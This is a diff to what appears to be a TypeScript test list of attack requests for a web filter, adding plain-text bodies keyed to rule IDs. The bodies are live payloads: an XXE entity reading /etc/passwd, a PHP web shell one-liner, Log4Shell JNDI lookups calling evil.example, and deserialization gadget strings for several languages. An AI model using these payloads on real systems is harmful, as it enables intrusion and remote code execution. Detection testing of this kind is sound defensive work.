@@ -263,23 +263,28 @@ export const ATTACKS: readonly Attack[] = [
 
   // Objects
   ...both(9070010, 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', 'aced0005737200'),
-  attack(
-    'serialised object as a body',
-    9070010,
-    request({
-      ...{ method: 'POST', uri: '/invoker', body: '\u00ac\u00ed\u0000\u0005sr' },
-      headers: [
-        ['Content-Type', 'application/octet-stream'],
-        ['Content-Length', '6'],
-      ],
-    }),
-  ),
   ...both(9070020, 'com.sun.rowset.JdbcRowSetImpl', 'org.apache.commons.collections.functors.InvokerTransformer'),
   ...both(9070020, 'x.InvokerTransformer'),
   ...both(9070030, 'O:8:"Evil\\User":1:{s:4:"name";s:1:"x";}', 'a:1:{i:0;O:4:"Evil":1:{}}'),
   ...both(9070040, "cos\nsystem\n(S'id'\ntR.", '!!python/object/apply:os.system ["id"]'),
   ...both(9070050, 'AAEAAAD/////AQAAAAAAAAAMAgAAAF', 'System.Windows.Data.ObjectDataProvider, PresentationFramework'),
   ...both(9070060, '_$$ND_FUNC$$_function(){}', '--- !ruby/object:Gem::Installer'),
+
+  // Bodies that nothing takes apart
+  ...(
+    [
+      [9040075, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
+      [9050105, '<?php system($_GET[1]);'],
+      [9055060, 'x ${JNDI:ldap://evil.example/a}'],
+      [9055060, 'x ${${lower:j}ndi:ldap://evil.example/a}'],
+      [9070010, '\u00ac\u00ed\u0000\u0005sr'],
+      [9070040, '!!python/object/apply:os.system ["id"]'],
+      [9070050, 'AAEAAAD/////AQAAAAAAAAAMAgAAAF'],
+      [9070070, '{"x":"com.sun.rowset.JdbcRowSetImpl"}'],
+      [9070070, 'O:8:"Evil\\User":1:{s:4:"name";s:1:"x";}'],
+      [9070070, '{"x":"_$$ND_FUNC$$_function(){}()"}'],
+    ] as const
+  ).map(([rule, text]) => attack(`${text} as a body`, rule, { ...withBody('text/plain', ''), body: text })),
 
   // Answers
   attack('private key', 9080010, answer(200, 'text/plain', '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n')),
